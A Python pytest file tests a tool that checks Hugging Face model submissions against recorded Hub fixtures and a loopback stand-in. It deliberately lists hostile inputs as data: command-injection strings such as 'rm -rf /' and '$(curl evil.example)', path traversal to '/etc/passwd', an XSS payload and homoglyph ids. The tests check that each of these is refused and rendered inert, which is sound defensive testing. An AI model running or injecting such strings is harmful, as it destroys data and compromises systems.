"""``suite submit check`` on Hub metadata fixtures (the Hub is unreachable here) and on hostile input.

``hub_metadata.json`` holds model_info responses and main-branch commit listings in the Hub API's JSON
shape plus each model's config files; they are written for these tests after the API's format, not
downloaded. The table-driven tests read them with ``huggingface_hub``'s own ``ModelInfo``; the
stand-in tests serve them on loopback so ``fetch`` parses them through the library's real calls
(``model_info``, ``list_repo_commits`` over several pages, ``hf_hub_download``).
"""

from __future__ import annotations

import functools
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from huggingface_hub.hf_api import ModelInfo
from markdown_it import MarkdownIt

from suite.submission import (
    CONSENTS,
    HubModel,
    Limits,
    Unavailable,
    check_submission,
    code_span,
    fetch,
    hub_model,
    read_issue,
    revision_problem,
)
from tests.submission.hub_standin import FIXTURES, ModelHubStandIn, case_of, resolve
from tests.test_cli import run_suite

GOOD = FIXTURES["cases"]["good"]
OLDER, UNMERGED = GOOD["revisions"]["older-release"], GOOD["revisions"]["unmerged-branch"]


def recorded_hub(model_id: str, revision: str | None) -> HubModel:
    """The Hub as the fixtures describe it (the stand-in's answers, without HTTP)."""
    case = case_of(model_id)
    if "unavailable" in case:
        raise Unavailable(case["unavailable"])
    sha = resolve(case, revision)
    if sha is None:
        raise Unavailable(FIXTURES["cases"]["no-revision"]["unavailable"])
    info = ModelInfo(**case["model_info"] | {"sha": sha})
    main_history = [c["id"] for c in case["main_commits"]]
    return hub_model(info, case["config"], case["tokenizer_config"], main_history)


@pytest.fixture(scope="module")
def standin_hub() -> Iterator[ModelHubStandIn]:
    with ModelHubStandIn() as hub:
        yield hub


@pytest.fixture
def live_fetch(
    standin_hub: ModelHubStandIn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> functools.partial[HubModel]:
    """``fetch`` itself, against the stand-in (its own cache; offline mode lifted for the call)."""
    from huggingface_hub import constants

    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    monkeypatch.setattr(constants, "HF_HUB_CACHE", str(tmp_path / "hub"))
    return functools.partial(fetch, endpoint=standin_hub.url)


def never_called(model_id: str, revision: str | None) -> HubModel:
    raise AssertionError(f"the Hub was asked about {model_id!r} though the input is malformed")


def test_a_public_safetensors_model_is_accepted_at_a_resolved_commit() -> None:
    verdict = check_submission("example-org/reasoner-1.5B", "v1.0", recorded_hub)
    assert verdict.accepted, verdict.problems
    assert verdict.commit == "a" * 40 and verdict.parameters == 1777088000 and verdict.context == 131072
    assert "`example-org/reasoner-1.5B` at commit `" + "a" * 40 + "`" in verdict.markdown()
    assert check_submission("example-org/vision-reasoner", None, recorded_hub).context == 65536  # text_config


def test_an_accepted_long_id_is_passed_on_whole() -> None:
    long_id = "example-org/" + "r" * 90

    def hub(model_id: str, revision: str | None) -> HubModel:
        info = ModelInfo(**GOOD["model_info"] | {"id": model_id})
        return hub_model(info, GOOD["config"], GOOD["tokenizer_config"], [GOOD["model_info"]["sha"]])

    verdict = check_submission(long_id, None, hub)
    assert verdict.accepted and verdict.to_json()["model_id"] == long_id and f"`{long_id}`" in verdict.markdown()


@pytest.mark.parametrize(
    ("model_id", "revision", "reason"),
    [
        ("example-org/custom-arch", None, "needs custom code (auto_map in config.json)"),
        ("example-org/custom-tokenizer", None, "needs custom code (auto_map in tokenizer_config.json)"),
        ("example-org/pickled", None, "has no safetensors weights"),
        ("example-org/pickled", None, "parameter count is unknown"),
        ("example-org/huge-405B", None, "405.0B parameters, over the limit of 80B"),
        ("example-org/short-ctx", None, "context is 4,096 tokens, under the 32,768"),
        ("example-org/no-config", None, "has no config.json"),
        ("example-org/private", None, "is private; only public models"),
        ("example-org/gated", None, "is gated"),
        ("example-org/missing", None, "does not exist on the Hub or is not public"),
        ("example-org/reasoner-1.5B", "no-such-branch", "no such revision"),
        ("example-org/reasoner-1.5B", "b" * 40, "no such revision"),
        ("example-org/reasoner-1.5B", "unmerged-branch", f"resolves to commit `{UNMERGED}`, which is not on the"),
        ("example-org/reasoner-1.5B", UNMERGED, "not on the history of the model's main branch"),
        ("example-org/reasoner-1.5B", "refs/pr/7", "is a git ref path; Hub pull requests (refs/pr/N)"),
        ("example-org/reasoner-1.5B", "refs/heads/main", "is a git ref path"),
        ("example-org/reasoner-1.5B", "aaaaaaa", "looks like an abbreviated or upper-case commit sha"),
        ("example-org/reasoner-1.5B", "A" * 40, "looks like an abbreviated or upper-case commit sha"),
    ],
)
def test_models_that_cannot_be_run_are_refused_with_a_reason(model_id: str, revision: str | None, reason: str) -> None:
    verdict = check_submission(model_id, revision, recorded_hub)
    assert not verdict.accepted and any(reason in p for p in verdict.problems), verdict.problems
    assert "Submission refused" in verdict.markdown()


HOSTILE = [
    "a/b;rm -rf /",
    "$(curl evil.example)/x",
    "org/model`id`",
    "org/model && echo pwned",
    "org/model\nother/model",
    "org/model'\"",
    "../../etc/passwd",
    "org/../secret",
    "./org/model",
    "org//model",
    "org/model/extra",
    "/org/model",
    "org/-model",
    "org/model.",
    "org/mo--del",
    "org/mo..del",
    "deepseek-ai/DeepSeek-R1-Distill-Qwen-1.5\u0412",  # Cyrillic capital Ve looks like B
    "deepseek-\u0430i/model",  # Cyrillic a
    "org/model\u200b",  # zero-width space
    "ｏｒｇ/ｍｏｄｅｌ",  # full-width letters  # noqa: RUF001
    "x" * 10_000,
    "org/" + "m" * 10_000,
    "",
    "org",
    "org/model name",
    "https://evil.example/x",
    "@maintainer/model",
    "owner/repo#1",
    "org/model`\n@user see https://evil.example",
    "<img src=x onerror=alert(1)>/m",
    "org/`` ` ``",
]


def markdown_parts(comment: str) -> tuple[str, list[str]]:
    """What a Markdown renderer shows as text (outside code spans), and the code spans' contents."""
    text: list[str] = []
    spans: list[str] = []
    for block in MarkdownIt("commonmark").parse(comment):
        for token in block.children or []:
            (spans if token.type == "code_inline" else text).append(token.content)
    return " ".join(text), spans


def inert(rendered: str) -> bool:
    """Nothing GitHub would turn into a link, a mention or a cross-reference, and no stray backtick."""
    return not re.search(r"@|://|www\.|#\d|`|\$\(", rendered)


@pytest.mark.parametrize("model_id", HOSTILE)
def test_hostile_model_ids_are_refused_before_the_hub_is_asked(model_id: str) -> None:
    verdict = check_submission(model_id, None, never_called)
    assert not verdict.accepted and verdict.problems[0].startswith("the model id")
    comment = verdict.markdown()  # what the workflow posts: the input only inside code spans
    assert comment.isascii() and len(comment) < 800 and comment.count("\n- ") == 1
    rendered, spans = markdown_parts(comment)
    assert inert(rendered), rendered
    assert model_id == "" or (spans and spans[0] == code_span(model_id).strip("`"))


@pytest.mark.parametrize(
    "revision",
    ["main; rm -rf /", "../x", "a" * 10_000, "--force", "v1\u0430", "refs//heads", "", "x/.hidden", "b.lock", "a/"],
)
def test_hostile_revisions_are_refused(revision: str) -> None:
    verdict = check_submission("example-org/reasoner-1.5B", revision or " ", never_called)
    assert not verdict.accepted and "the revision" in verdict.problems[0]


def test_stricter_limits_refuse_what_defaults_accept() -> None:
    assert not check_submission("example-org/reasoner-1.5B", None, recorded_hub, Limits(max_parameters=10**9)).accepted
    assert not check_submission("example-org/reasoner-1.5B", None, recorded_hub, Limits(min_context=262144)).accepted


def issue_body(model_id: str, revision: str = "_No response_", ticked: int = len(CONSENTS)) -> str:
    boxes = "\n".join(f"- [{'X' if i < ticked else ' '}] {c}" for i, c in enumerate(CONSENTS))
    return (
        f"### Model id\n\n{model_id}\n\n### Revision\n\n{revision}\n\n### Contact\n\n@someone\n\n"
        f"### Before you submit\n\n{boxes}\n"
    )


def test_issue_bodies_are_read_as_the_form_renders_them() -> None:
    submission = read_issue(issue_body("example-org/reasoner-1.5B"))
    assert (submission.model_id, submission.revision, submission.problems) == ("example-org/reasoner-1.5B", None, ())
    assert read_issue(issue_body("org/m", "v1.0")).revision == "v1.0"
    unticked = read_issue(issue_body("org/m", ticked=1))
    assert [p for p in unticked.problems if "is not ticked" in p] and len(unticked.problems) == 2
    assert read_issue("just some text").problems[0].startswith("the issue has no 'Model id'")
    hostile = read_issue(issue_body("org/model\n### Revision\n\nmain; rm -rf /"))
    verdict = check_submission(hostile.model_id, hostile.revision, never_called)
    assert not verdict.accepted


def test_the_issue_form_and_the_reader_agree() -> None:
    import yaml

    form = yaml.safe_load((Path(__file__).parents[2] / ".github" / "ISSUE_TEMPLATE" / "submission.yml").read_text())
    labels = {item["attributes"]["label"]: item for item in form["body"] if "label" in item.get("attributes", {})}
    assert {"Model id", "Revision", "Contact", "Before you submit"} <= set(labels)
    options = labels["Before you submit"]["attributes"]["options"]
    assert [o["label"] for o in options] == list(CONSENTS) and all(o["required"] for o in options)


def test_cli_refuses_hostile_input_offline_and_reports_an_unreachable_hub(tmp_path: Path) -> None:
    offline = os.environ | {"HF_HUB_OFFLINE": "1"}
    refused = run_suite("submit", "check", "a/b;rm -rf /", "--json", str(tmp_path / "v.json"), env=offline)
    assert refused.returncode == 1 and "Submission refused" in refused.stdout
    verdict = json.loads((tmp_path / "v.json").read_text())
    assert verdict["accepted"] is False and verdict["model_id"] == "a/b;rm -rf /"
    body = tmp_path / "body.md"
    body.write_text(issue_body("org/$(whoami)"))
    from_issue = run_suite("submit", "check", "--issue", str(body), "--markdown", str(tmp_path / "c.md"), env=offline)
    rendered, spans = markdown_parts((tmp_path / "c.md").read_text())
    assert from_issue.returncode == 1 and inert(rendered) and "org/$(whoami)" in spans
    unreachable = run_suite("submit", "check", "example-org/reasoner-1.5B", env=offline)
    assert unreachable.returncode == 2 and "HF_HUB_OFFLINE is set" in unreachable.stderr
    assert "Traceback" not in unreachable.stderr


@pytest.mark.parametrize(
    ("text", "quoted"),
    [
        ("org/model", "`org/model`"),
        ("@user", "`@user`"),
        ("owner/repo#1", "`owner/repo#1`"),
        ("a`b``c", "`a'b''c`"),
        ("line\nbreak\r", "`line?break?`"),
        ("look\u0430like", "`look?like`"),
        ("", "(empty)"),
        ("x" * 201, "`" + "x" * 200 + "...`"),
    ],
)
def test_code_span_quotes_submitted_text_so_nothing_in_it_renders(text: str, quoted: str) -> None:
    assert code_span(text) == quoted
    rendered, spans = markdown_parts(f"- the id {code_span(text)} is refused")
    assert inert(rendered) and spans == ([quoted.strip("`")] if text else [])


@pytest.mark.parametrize(
    "model_id",
    ["www.evil.com/model", "owner/repo", "user.name/x"],  # the Hub's grammar allows these
)
def test_ids_that_pass_the_grammar_are_quoted_too(model_id: str) -> None:
    verdict = check_submission(model_id, None, recorded_hub)  # not in the fixtures: missing
    assert not verdict.accepted and "does not exist on the Hub" in verdict.problems[0]
    rendered, spans = markdown_parts(verdict.markdown())
    assert inert(rendered) and model_id not in rendered and spans.count(model_id) == 2, verdict.markdown()


@pytest.mark.parametrize(
    ("revision", "accepted"),
    [
        ("main", True),
        ("v1.0", True),
        ("release/2025-01", True),
        ("cafe", True),  # too short to be mistaken for a sha
        ("a" * 40, True),
        ("refs/pr/7", False),
        ("REFS/PR/7", False),
        ("refs", False),
        ("refs/heads/main", False),
        ("0123abc", False),
        ("0123456789abcdef0123456789abcdef0123456", False),  # 39 hex
        ("A" * 40, False),
        ("x/.hidden", False),
        ("branch.lock", False),
        ("a//b", False),
        ("a/../b", False),
    ],
)
def test_a_revision_is_a_branch_name_or_a_full_commit_sha(revision: str, accepted: bool) -> None:
    assert (revision_problem(revision) is None) is accepted


def test_an_accepted_verdict_ends_with_the_marker_the_label_is_bound_to() -> None:
    comment = check_submission("example-org/reasoner-1.5B", "older-release", recorded_hub).markdown()
    assert comment.splitlines()[-1] == f"<!-- suite-verdict accepted example-org/reasoner-1.5B {OLDER} -->"
    refused = check_submission("org/x --> <b>", None, never_called).markdown()
    lines = refused.splitlines()  # the input's "-->" sits inside a code span, not in the marker's comment
    assert lines[-1] == "<!-- suite-verdict refused -->" and [x for x in lines if x.startswith("<!--")] == lines[-1:]


MODEL_IDS = [*sorted(FIXTURES["index"]), "example-org/not-there"]


@pytest.mark.parametrize("model_id", MODEL_IDS)
def test_fetch_reads_the_hub_as_the_recorded_answers_say(
    model_id: str, live_fetch: functools.partial[HubModel]
) -> None:
    """Through huggingface_hub's real calls on loopback: the same facts as the table-driven tests read."""
    for revision in (None, "v1.0", "older-release", "unmerged-branch", UNMERGED, "no-such-branch"):
        try:
            expected: HubModel | str = recorded_hub(model_id, revision)
        except Unavailable as e:
            expected = str(e)
        try:
            got: HubModel | str = live_fetch(model_id, revision)
        except Unavailable as e:
            got = str(e)
        assert got == expected, (model_id, revision)


def test_the_main_history_is_read_across_pages(
    standin_hub: ModelHubStandIn, live_fetch: functools.partial[HubModel]
) -> None:
    before = standin_hub.calls.count("GET commits")
    oldest = GOOD["main_commits"][-1]["id"]  # on the last page of six commits, two a page
    assert live_fetch("example-org/reasoner-1.5B", oldest).on_main
    assert standin_hub.calls.count("GET commits") - before == 3
    verdict = check_submission("example-org/reasoner-1.5B", "unmerged-branch", live_fetch)
    assert [p for p in verdict.problems if "not on the history of the model's main branch" in p]


def test_cli_checks_an_issue_against_the_hub_standin(standin_hub: ModelHubStandIn, tmp_path: Path) -> None:
    env = os.environ | {"HF_ENDPOINT": standin_hub.url, "HF_HUB_OFFLINE": "0", "HF_HOME": str(tmp_path / "hf")}
    body = tmp_path / "body.md"
    body.write_text(issue_body("example-org/reasoner-1.5B", "older-release"))
    accepted = run_suite("submit", "check", "--issue", str(body), "--markdown", str(tmp_path / "c.md"), env=env)
    assert accepted.returncode == 0, accepted.stdout + accepted.stderr
    assert (tmp_path / "c.md").read_text().splitlines()[-1].endswith(f"example-org/reasoner-1.5B {OLDER} -->")
    body.write_text(issue_body("example-org/reasoner-1.5B", "unmerged-branch"))
    refused = run_suite("submit", "check", "--issue", str(body), env=env)
    said = " ".join(refused.stdout.split())  # the terminal wraps lines
    assert refused.returncode == 1 and "not on the history of the model's main branch" in said
